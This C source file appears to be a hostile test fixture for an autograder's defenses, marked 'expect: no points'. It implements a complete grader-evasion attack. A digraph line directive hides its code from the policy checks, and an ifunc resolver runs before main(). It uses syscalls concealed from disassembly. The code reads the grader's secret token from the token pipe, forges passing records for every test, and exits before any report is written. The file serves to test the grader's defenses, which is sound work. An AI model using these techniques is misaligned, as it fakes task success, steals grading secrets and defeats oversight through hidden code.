/*
 * Hostile: code that runs before main() without a constructor section,
 * in the test runner, and steals every token at once. A line directive,
 * spelled with the digraph %: for # so that a search for "#line" misses
 * it, first makes the rest of the file someone else's for the
 * source-level rules (which find the student's lines by the
 * preprocessor's line markers).
 *   - A `static` function with __attribute__((ifunc)): its symbol is LOCAL
 *     (the policy skips it) and the object has no .init_array, yet the
 *     loader calls the resolver while it relocates the executable, before
 *     any constructor of tests/grading.c, in every process that loads it.
 *   - In the runner the grader's token pipe (WB_TOKEN_FD) is still full:
 *     the resolver finds its number in /proc/self/environ and reads it
 *     (raw system calls hidden from objdump inside a mov immediate), writes
 *     "start" and "pass suite/test TOKEN" for every test into
 *     /tmp/records, and ends the runner with exit_group(0) before it
 *     writes any report: a pass with the right token and no report says
 *     "passed", and the memory check sees every test started.
 *   - Anywhere else (test processes, the race driver) it does nothing.
 * expect: no points
 */
#include "workers.h"

#include <stddef.h>

/* The policy reads the student's own lines of the preprocessed file, by
 * its line markers: from here on they name another file, so none of what
 * follows (asm, the ifunc and sanitizer attributes) is "the student's". */
%:line 1 "workers-support.c"

/* Before the sanitizers' run-time starts, instrumented code would touch
 * shadow memory that is not there yet: the resolver's code has none. */
#if defined(__clang__) && __has_attribute(disable_sanitizer_instrumentation)
#define NO_SAN __attribute__((disable_sanitizer_instrumentation, noinline))
#else
#define NO_SAN __attribute__((no_sanitize("address", "thread"), noinline))
#endif

NO_SAN static long hidden_syscall(long n, long a, long b, long c)
{
    long ret;
    __asm__ volatile(".byte 0xeb, 0x01, 0xb8, 0x0f, 0x05, 0x90, 0x90"
                     : "=a"(ret)
                     : "a"(n), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return ret;
}

static char pipe_text[16384];
static char out_text[40000];

NO_SAN static char *put(char *w, const char *s, long n)
{
    for (long i = 0; (n < 0 ? s[i] != 0 : i < n); i++)
        *w++ = s[i];
    return w;
}

NO_SAN static int cores_impl(void)
{
    return 1;
}

/* WB_TOKEN_FD=N in this process's environment: only the runner has it. */
NO_SAN static long token_fd(void)
{
    static char env[8192];
    long fd = hidden_syscall(2, (long)"/proc/self/environ", 0, 0);
    if (fd < 0)
        return -1;
    long n = hidden_syscall(0, fd, (long)env, sizeof env - 1);
    hidden_syscall(3, fd, 0, 0);
    if (n <= 0)
        return -1;
    env[n] = 0;
    const char *key = "WB_TOKEN_FD=";
    for (long i = 0; i < n; i++) {
        long k = 0;
        while (key[k] && env[i + k] == key[k])
            k++;
        if (!key[k]) {
            long value = 0;
            for (i += k; env[i] >= '0' && env[i] <= '9'; i++)
                value = value * 10 + (env[i] - '0');
            return value;
        }
    }
    return -1;
}

NO_SAN static int (*resolve_cores(void))(void)
{
    long fd = token_fd();
    if (fd >= 0) {
        long have = 0, got;
        while (have < (long)sizeof pipe_text - 1 &&
               (got = hidden_syscall(0, fd, (long)(pipe_text + have),
                                     (long)sizeof pipe_text - 1 - have)) > 0)
            have += got;
        pipe_text[have] = 0;
        /* Lines "suite/test TOKEN": a start and a pass for each. */
        char *w = out_text;
        for (char *line = pipe_text; *line;) {
            char *end = line;
            while (*end && *end != '\n')
                end++;
            char *space = line;
            while (space < end && *space != ' ')
                space++;
            if (space < end) {
                w = put(w, "start ", -1);
                w = put(w, line, space - line);
                w = put(w, " processes=3\npass ", -1);
                w = put(w, line, end - line);
                w = put(w, "\n", -1);
            }
            line = *end ? end + 1 : end;
            if (w > out_text + sizeof out_text - 400)
                break;
        }
        long rec = hidden_syscall(2, (long)"/tmp/records", 01 | 0100 | 02000, 0600);
        if (rec >= 0) {
            hidden_syscall(1, rec, (long)out_text, w - out_text);
            hidden_syscall(3, rec, 0, 0);
            hidden_syscall(231, 0, 0, 0);   /* exit_group(0): no report */
        }
    }
    return cores_impl;
}

static int cores(void) __attribute__((ifunc("resolve_cores")));

int cores_available(void)
{
    return cores();
}

int default_team_size(void)
{
    return 1;
}

void describe_cores(char *buf, size_t size)
{
    if (size)
        buf[0] = 0;
}
